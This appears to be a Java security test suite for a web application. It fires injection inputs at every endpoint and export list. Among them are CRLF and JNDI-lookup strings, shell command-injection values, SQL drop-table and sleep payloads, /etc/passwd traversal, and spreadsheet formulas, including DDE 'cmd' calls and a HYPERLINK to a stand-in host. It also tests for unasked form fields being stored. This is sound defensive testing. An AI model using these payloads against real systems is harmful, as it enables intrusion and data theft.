package org.daywatch.house;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.OutputStreamAppender;
import de.siegmar.fastcsv.reader.CsvReader;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.regex.Pattern;
import org.daywatch._story.AllTables;
import org.daywatch._story.Explorer;
import org.slf4j.LoggerFactory;
import org.springframework.core.DefaultParameterNameDiscoverer;
import org.springframework.core.MethodParameter;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * Words that mean something to whoever reads them next: to a log, a shell, a spreadsheet, or to a handler that takes
 * more fields than its form has. Addresses, lists and forms are taken from the application and its pages: a new one is
 * tried without anybody adding it here.
 */
final class HostileWords {

    /** In the long form every field of every address is asked each word, else three of them in their turn. */
    private static final boolean LONG = Boolean.getBoolean("daywatch.long");
    private static final int IN_TURN = 3;
    /** The web server reads no more fields than a thousand. */
    private static final int AT_ONCE = 800;
    private static final String STREAM = "/live"; // has no end
    private static final String ANYTHING = "[^/]+";
    private static final Pattern NUMBER = Pattern.compile("-?[0-9]+([.,][0-9]+)?");
    private static final List<String> FORMULAS = List.of("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
            " =1+1",
            "=HYPERLINK(\"https://elsewhere.example/?\"&A1)", "=cmd|' /C calc'!A0", "\"=1+1", "\n=1+1", "＝1+1",
            "-2+3+cmd|' /C calc'!D2", "%00=1+1");

    private final List<Explorer> people;
    private final RequestMappingHandlerMapping endpoints;
    private final AllTables tables;
    private final ByteArrayOutputStream logged = new ByteArrayOutputStream();

    HostileWords(List<Explorer> people, RequestMappingHandlerMapping endpoints, AllTables tables) {
        this.people = people;
        this.endpoints = endpoints;
        this.tables = tables;
        listen();
    }

    /** What the application's own pattern writes to its log. */
    private void listen() {
        var context = (LoggerContext) LoggerFactory.getILoggerFactory();
        var layout = new PatternLayoutEncoder();
        layout.setContext(context);
        layout.setPattern("%m%n%ex");
        layout.start();
        var appender = new OutputStreamAppender<ILoggingEvent>();
        appender.setContext(context);
        appender.setEncoder(layout);
        appender.setOutputStream(logged);
        appender.start();
        ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).addAppender(appender);
    }

    /** @param folder empty; what a command made that ran would lie there */
    void everyQuestion(Path folder) throws SQLException {
        var ran = folder.resolve("ran");
        var words = List.of("x\r\nINJECTED 1", "x%0d%0aINJECTED 2", "${jndi:ldap://elsewhere.example/INJECTED}",
                "; touch " + ran, "$(touch " + ran + ")", "`touch " + ran + "`", "| touch " + ran,
                "'; drop table directory.school; --", "1; select pg_sleep(9)", "../../../../etc/passwd",
                "\u2028INJECTED 3");
        var before = tables.column("select count(*) from directory.school").getFirst();
        var wrong = new TreeSet<String>();
        int tried = 0;
        for (var address : addresses().entrySet()) {
            for (var person : people) {
                var page = person.pages().stream().filter(p -> p.matches(address.getKey())).findFirst();
                if (page.isEmpty()) continue;
                var asked = new LinkedHashSet<>(address.getValue());
                asked.addAll(person.asked(page.get()));
                asked.addAll(List.of("q", "sort", "page"));
                for (int turn = 0; turn < (LONG ? words.size() : IN_TURN); turn++) {
                    var fields = new LinkedHashMap<String, String>();
                    for (var name : asked) fields.put(name, words.get((tried + fields.size()) % words.size()));
                    var answer = person.get(page.get() + "?" + Explorer.query(fields));
                    tried++;
                    if (answer.statusCode() >= 500) wrong.add(page.get() + " answers " + answer.statusCode());
                    answer.headers().map().forEach((name, values) -> {
                        if (name.toLowerCase(java.util.Locale.ROOT).startsWith("injected")
                                || values.stream().anyMatch(value -> value.contains("\r") || value.contains("\n")))
                            wrong.add(page.get() + " has a header " + name);
                    });
                    if (answer.body().contains("root:x:0")) wrong.add(page.get() + " shows a file of the machine");
                }
                break;
            }
        }
        assertThat(tried).as("questions").isGreaterThan(900);
        logged.toString(StandardCharsets.UTF_8).lines().filter(line -> line.startsWith("INJECTED"))
                .forEach(line -> wrong.add("a line of the log: " + line));
        if (Files.exists(ran)) wrong.add("a command ran");
        assertThat(tables.column("select count(*) from directory.school").getFirst()).isEqualTo(before);
        Offenders.none("Bind it, choose it from a list, or leave it out: what is asked was read as something else.",
                wrong);
    }

    void fieldsThatNoFormHas() throws SQLException {
        String id = UUID.randomUUID().toString();
        String word = "unasked" + id.substring(0, 8);
        var names = new ArrayList<>(called(id, word).entrySet());
        int tried = 0;
        int taken = 0;
        int turn = 0;
        var seen = new TreeSet<String>();
        for (var person : people)
            for (var form : person.forms()) {
                if (form.address().startsWith("/sign-out") || !seen.add(Explorer.kind(form.address()))) continue;
                var meant = asked(form.address());
                for (int part = 0; part < (LONG ? names.size() : 1); part += AT_ONCE) {
                    var fields = new LinkedHashMap<>(form.fields());
                    fields.computeIfPresent("form", (name, old) -> UUID.randomUUID().toString());
                    for (int i = 0; i < Math.min(AT_ONCE, names.size()); i++) {
                        var name = names.get(turn++ % names.size());
                        if (!meant.contains(name.getKey())) fields.putIfAbsent(name.getKey(), name.getValue());
                    }
                    int answer = person.post(form.address(), fields).statusCode();
                    if (answer == 401) person.enter();
                    if (answer < 400) taken++;
                    tried++;
                }
            }
        assertThat(taken).as("forms that were taken, of %d", tried).isGreaterThan(30);
        assertThat(tried).as("forms").isGreaterThan(150);
        var found = new TreeSet<String>();
        for (var table : tables.names())
            tables.column("select '" + table + "' from " + table + " t where t::text ~ '" + word + "|" + id
                    + "' limit 1").forEach(found::add);
        Offenders.none("Read the fields the form has, and no other: a field that nobody asked for was stored.", found);
    }

    /** Every column that holds words or an id, as the database and as Java calls it, with what is sent by that name. */
    private Map<String, String> called(String id, String word) throws SQLException {
        var called = new TreeMap<String, String>();
        for (var column : tables.column("""
                select distinct c.column_name || ' ' || (c.data_type = 'uuid') from information_schema.columns c
                where c.table_schema in ('platform', 'directory', 'staffing', 'planning', 'relationships', 'mentoring', 'emergencies', 'training', 'prevention', 'restorative',
                    'transparency', 'billing') and c.data_type in ('uuid', 'text')""")) {
            String name = column.split(" ")[0];
            for (var one : List.of(name, camel(name))) called.put(one, column.endsWith(" true") ? id : word);
        }
        return called;
    }

    void formulasInEveryList() throws Exception {
        int planted = plant();
        assertThat(planted).as("columns in which formulas stand").isGreaterThan(100);
        var formulas = new TreeSet<String>();
        var lists = new TreeSet<String>();
        int kept = 0;
        for (var address : addresses().keySet()) {
            if (!address.endsWith("\\.csv")) continue;
            for (var person : people) {
                var path = path(person, address);
                var answer = path.map(person::get).filter(found -> found.statusCode() == 200);
                if (answer.isEmpty()) continue;
                lists.add(address);
                for (var row : CsvReader.builder().ofCsvRecord(answer.get().body()))
                    for (var cell : row.getFields()) {
                        if (cell.startsWith("'")) kept++;
                        if (isFormula(cell)) formulas.add(path.get() + " holds " + cell.strip());
                    }
            }
        }
        assertThat(lists).as("lists that somebody takes along").hasSizeGreaterThan(70);
        assertThat(kept).as("cells kept apart").isGreaterThan(500);
        Offenders.none("Answer the list with Csv: a spreadsheet would count what somebody wrote.", formulas);
    }

    private static boolean isFormula(String cell) {
        String seen = cell.stripLeading();
        return !seen.isEmpty() && "=+-@＝＋－＠".indexOf(seen.charAt(0)) >= 0 && !NUMBER.matcher(cell).matches();
    }

    /** Into every column that takes any words, whoever may write there: row security and pages are not asked. */
    private int plant() throws SQLException {
        int planted = 0;
        int turn = 0;
        for (var column : tables.column("""
                select c.table_schema || '.' || c.table_name || ' ' || c.column_name from information_schema.columns c
                join information_schema.tables t using (table_schema, table_name)
                where t.table_type = 'BASE TABLE' and c.data_type = 'text' and c.is_generated = 'NEVER'
                  and c.table_schema in ('platform', 'directory', 'staffing', 'planning', 'relationships', 'mentoring', 'emergencies', 'training', 'prevention', 'restorative',
                    'transparency', 'billing')
                  and c.table_name not in ('audit_line', 'role_permission', 'event_publication', 'session', 'one_time_code')
                  and c.column_name !~ 'zone|hash|url|link|topic|type'
                order by 1""")) {
            String table = column.split(" ")[0];
            String name = column.split(" ")[1];
            String formula = FORMULAS.get(turn++ % FORMULAS.size()).replace("'", "''");
            try {
                if (tables.execute("update " + table + " set \"" + name + "\" = '" + formula + "' || \"" + name
                        + "\" where \"" + name + "\" ~ '[a-z]{3}' and \"" + name + "\" ~ '[ A-Z]'"
                        + " and \"" + name + "\" !~ '^([A-Za-z_]+/|[{\\[<]|https?:)'") > 0)
                    planted++;
            } catch (SQLException onlySomeWords) {
                continue;
            }
        }
        return planted;
    }

    /** One list of the kind: as it is, or of a thing whose page they found. */
    private static Optional<String> path(Explorer person, String address) {
        String shape = address.replace("\\.", ".").replace(ANYTHING, "{}");
        if (!shape.contains("{}")) return Optional.of(shape);
        String last = shape.substring(shape.lastIndexOf('/'));
        return person.pages().stream().map(page -> page + (last.contains("{}") ? ".csv" : last))
                .filter(path -> path.matches(address)).findFirst();
    }

    /** By the address as a pattern, what its handler asks for by name. */
    private Map<String, Set<String>> addresses() {
        var found = new LinkedHashMap<String, Set<String>>();
        endpoints.getHandlerMethods().forEach((mapping, method) -> {
            if (!method.getBeanType().getName().startsWith("org.daywatch.")
                    || !mapping.getMethodsCondition().getMethods().contains(RequestMethod.GET))
                return;
            mapping.getPatternValues().stream().filter(a -> !a.equals(STREAM)).forEach(a -> found.put(
                    a.replace(".", "\\.").replaceAll("\\{[^}]*}", ANYTHING),
                    names(Arrays.asList(method.getMethodParameters()))));
        });
        return found;
    }

    private Set<String> asked(String address) {
        var names = new TreeSet<String>();
        endpoints.getHandlerMethods().forEach((mapping, method) -> {
            if (mapping.getMethodsCondition().getMethods().contains(RequestMethod.POST) && mapping.getPatternValues()
                    .stream().anyMatch(a -> address.matches(a.replace(".", "\\.").replaceAll("\\{[^}]*}", ANYTHING))))
                names.addAll(names(Arrays.asList(method.getMethodParameters())));
        });
        return names;
    }

    private static Set<String> names(List<MethodParameter> parameters) {
        var names = new TreeSet<String>();
        for (var parameter : parameters) {
            if (!parameter.hasParameterAnnotation(RequestParam.class)
                    || Map.class.isAssignableFrom(parameter.getParameterType()))
                continue;
            String said = parameter.getParameterAnnotation(RequestParam.class).value();
            parameter.initParameterNameDiscovery(new DefaultParameterNameDiscoverer());
            names.add(said.isEmpty() ? String.valueOf(parameter.getParameterName()) : said);
        }
        return names;
    }

    private static String camel(String name) {
        var parts = new ArrayList<>(List.of(name.split("_")));
        for (int i = 1; i < parts.size(); i++)
            if (!parts.get(i).isEmpty())
                parts.set(i, Character.toUpperCase(parts.get(i).charAt(0)) + parts.get(i).substring(1));
        return String.join("", parts);
    }
}
